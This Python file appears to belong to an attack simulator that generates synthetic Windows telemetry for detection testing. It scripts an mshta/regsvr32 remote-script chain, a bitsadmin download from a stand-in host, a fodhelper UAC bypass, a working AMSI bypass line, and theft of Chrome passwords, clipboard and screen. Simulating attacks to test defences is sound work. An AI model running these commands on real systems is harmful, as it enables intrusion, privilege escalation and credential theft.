"""A link that opens an HTML application, Windows' own tools, rights by a trick, an eye on the keyboard."""

from tocsin.sources.simulator.attack import Move, Stage

MOVES = (
    Move("An HTML application is run from the web", "TA0005", "T1218.005"),
    Move("BITS fetches a program", "TA0005", "T1197"),
    Move("Regsvr32 runs a script from the web", "TA0005", "T1218.010"),
    Move("Fodhelper starts it with full rights, unasked", "TA0004", "T1548.002"),
    Move("PowerShell's virus interface is blinded", "TA0112", "T1685"),
    Move("The Startup folder starts it again", "TA0003", "T1547.001"),
    Move("The passwords of the browser are copied", "TA0006", "T1555.003"),
    Move("The clipboard is read", "TA0009", "T1115"),
    Move("The screen is photographed", "TA0009", "T1113"),
    Move("It calls home every minute", "TA0011", "T1071.001", "correlation"),
)

_CALLS = 20
_AMSI = (
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')."
    "GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"
)
_SCREEN = (
    "Add-Type -AssemblyName System.Windows.Forms; $b = New-Object System.Drawing.Bitmap(1920, 1080); "
    "$g = [System.Drawing.Graphics]::FromImage($b); $g.CopyFromScreen(0, 0, 0, 0, $b.Size)"
)


def play(stage: Stage) -> None:
    """Write the whole scenario."""
    victim = stage.pick(stage.fleet.workstations or stage.fleet.hosts, "victim")
    user, name, server = victim.owner.folder, "cdn.parcel-tracking.example", "203.0.113.250"
    browser = stage.start(0, victim, stage.desktop_of(victim, 2600), "chrome", "{image} ")
    stage.begin(MOVES, 1)
    mshta = stage.start(
        35, victim, browser, "mshta", f'"C:\\Windows\\System32\\mshta.exe" http://{name}/parcel/{stage.number}.hta'
    )
    stage.look_up(35.5, victim, mshta, name, server)
    stage.connect(35.6, victim, mshta, server, 80)
    stage.begin(MOVES, 2)
    program = f"C:\\Users\\{user}\\AppData\\Local\\Temp\\prn{stage.number}.exe"
    fetch = f"bitsadmin  /transfer parcel /download /priority high http://{name}/p.bin {program}"
    stage.start(50, victim, mshta, "bitsadmin", fetch)
    stage.begin(MOVES, 3)
    script = f"regsvr32.exe  /s /n /u /i:http://{name}/parcel.sct scrobj.dll"
    registered = stage.start(120, victim, mshta, "regsvr32", script)
    stage.connect(121, victim, registered, server, 80)
    shell = stage.start(122, victim, registered, "powershell", "powershell.exe  -nop -ep bypass -w hidden -")
    stage.begin(MOVES, 4)
    command = "Software\\Classes\\ms-settings\\shell\\open\\command"
    stage.set_value(300, victim, shell, "HKCU_Classes\\ms-settings\\shell\\open\\command\\(Default)", program)
    stage.set_value(300.2, victim, shell, f"HKCU\\{command}\\DelegateExecute", "(Empty)")
    helper = stage.start(
        301, victim, shell, "fodhelper", '"C:\\Windows\\system32\\fodhelper.exe" ', shell.session.elevated()
    )
    stage.start(301.6, victim, helper, "cmd", f'"C:\\Windows\\system32\\cmd.exe" /c start {program}')
    stage.begin(MOVES, 5)
    stage.script(420, victim, shell, _AMSI, is_suspicious=True)
    stage.begin(MOVES, 6)
    startup = f"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"
    stage.create_file(500, victim, shell, f"{startup}\\Parcel.vbs")
    stage.begin(MOVES, 7)
    logins = f"C:\\Users\\{user}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data"
    copied = f'"C:\\Windows\\system32\\cmd.exe" /c copy "{logins}" C:\\Users\\Public\\ld.tmp'
    stage.start(760, victim, shell, "cmd", copied)
    stage.begin(MOVES, 8)
    stage.script(1000, victim, shell, "while ($true) { Get-Clipboard | Add-Content $log; Start-Sleep 5 }")
    stage.begin(MOVES, 9)
    stage.script(1300, victim, shell, _SCREEN, is_suspicious=True)
    stage.begin(MOVES, 10)
    for call in range(_CALLS):
        stage.connect(1310 + 60 * call, victim, shell, server, 443)
    stage.pause()
